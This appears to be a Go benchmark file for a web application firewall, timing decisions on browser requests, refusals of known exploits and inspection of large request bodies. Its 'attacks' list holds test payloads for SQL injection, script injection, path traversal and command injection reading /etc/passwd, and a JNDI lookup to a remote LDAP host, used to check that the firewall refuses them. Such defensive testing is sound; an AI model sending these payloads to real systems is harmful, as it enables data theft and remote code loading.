package waf

import (
	"fmt"
	"io"
	"net/netip"
	"strings"
	"testing"

	"stormdoor/flow"
	"stormdoor/policy"
)

// browser is a browser's GET with values of its own for each n.
func browser(n int) *flow.Facts {
	return facts("GET", "/shop/items/list", fmt.Sprintf("category=garden+tools%[1]d&page=%[1]d&sort=price_asc&q=lawn%%20mower%[1]d&ref=newsletter%[1]d", n),
		"Upgrade-Insecure-Requests", "1", "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Dest", "document",
		"Referer", fmt.Sprintf("https://www.example.org/shop/items?category=garden%d", n), "Accept-Encoding", "gzip, deflate, br", "Accept-Language", "en-GB,en;q=0.9,de;q=0.8",
		"Cookie", fmt.Sprintf("session=7f3c9a52e1b84d06a%[1]d; theme=dark%[1]d; _ga=GA1.2.13489%[1]d.1699876543; _gid=GA1.2.77%[1]d.1699; cart=3f%[1]d; consent=yes%[1]d", n))
}

// BenchmarkBrowser is a browser's GET: "known" one whose values have come before, "new" one whose values have not, and
// "again" one that has come before as a whole.
func BenchmarkBrowser(b *testing.B) {
	for _, c := range []struct {
		name   string
		client string // no request of the machine's own address is remembered
		of     func(n int) int
	}{
		{"known", "127.0.0.1", func(int) int { return 1 }},
		{"new", "192.0.2.7", func(n int) int { return n }},
		{"again", "192.0.2.7", func(n int) int { return n % 16 }},
	} {
		b.Run(c.name, func(b *testing.B) {
			for n := range 3000 {
				decide(b, one(), browser(1_000_000+n))
			}
			b.ReportAllocs()
			all := make([]*flow.Facts, 4096)
			for n := range all {
				all[n] = browser(2_000_000 + c.of(n))
				all[n].Client = netip.MustParseAddr(c.client)
			}
			for n := 0; b.Loop(); n++ {
				if n >= len(all) && c.name == "new" {
					all[n%len(all)] = browser(3_000_000 + n)
				}
				decide(b, one(), all[n%len(all)])
			}
		})
	}
}

var attacks = []string{
	"/? id=1%%27%%20UNION%%20SELECT%%20password%%20FROM%%20users--%d", "/search q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E", "/download file=../../../../etc/passwd&n=%d",
	"/cgi-bin/test c=;cat%%20/etc/passwd&n=%d", "/ x=${jndi:ldap://192.0.2.1/a%d}",
}

// BenchmarkRefusal is what known exploits cost, each time with a value of its own.
func BenchmarkRefusal(b *testing.B) {
	all := make([]*flow.Facts, 4096)
	for i := range all {
		var path, query string
		fmt.Sscanf(fmt.Sprintf(attacks[i%len(attacks)], i), "%s %s", &path, &query)
		all[i] = facts("GET", path, query, "Accept-Encoding", "gzip, deflate")
	}
	for n := range 3000 {
		decide(b, one(), all[n])
	}
	b.ReportAllocs()
	for n := 0; b.Loop(); n++ {
		if v := decide(b, one(), all[n%len(all)]); v.Action != flow.Refuse {
			b.Fatal(v)
		}
	}
}

// BenchmarkFollow reads long bodies as an origin gets them: what the inspection of the rest costs, by the byte.
func BenchmarkFollow(b *testing.B) {
	s := stage(b, policy.WAFBlocks, nil)
	stock := func(before, item, after string) string {
		var text strings.Builder
		text.WriteString(before)
		for n := 1000; text.Len() < 1<<20; n++ {
			fmt.Fprintf(&text, item, n, n%97, n%7)
		}
		return text.String() + after
	}
	const video = "--frontier\r\nContent-Disposition: form-data; name=\"video\"; filename=\"a.mp4\"\r\n\r\n"
	for _, c := range []struct{ name, contentType, body string }{
		{"form", "application/x-www-form-urlencoded", stock("a=1", "&sku%d=GC-%d&stock=%d&name=Garden+chair,+green&updated=2026-11-27T10:00:00Z", "")},
		{"json", "application/json", stock(`{"items":[0`, `,{"sku":"GC-%d","price":%d.9,"stock":%d,"name":"Garden chair, green","updated":"2026-11-27T10:00:00Z"}`, "]}")},
		{"xml", "application/xml", stock("<items>", `<item sku="GC-%d" price="%d.9" stock="%d"><name>Garden chair, green</name><updated>2026-11-27T10:00:00Z</updated></item>`, "</items>")},
		{"text in json", "application/json", `{"text":"` + strings.Repeat("The chair stands in the garden, and nobody sits on it today. ", 1<<14) + `"}`},
		{"file", "multipart/form-data; boundary=frontier", video + strings.Repeat("frames\n", 1<<20) + "\r\n--frontier--\r\n"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.body)))
			for b.Loop() {
				f := facts("POST", "/stock", "", "Content-Type", c.contentType)
				f.Length = int64(len(c.body))
				v, held := s.Inspect(f, strings.NewReader(c.body))
				if _, err := io.Copy(io.Discard, held.Reader()); err != nil || v.Sure() {
					b.Fatal(err, v)
				}
				held.Release()
			}
		})
	}
}
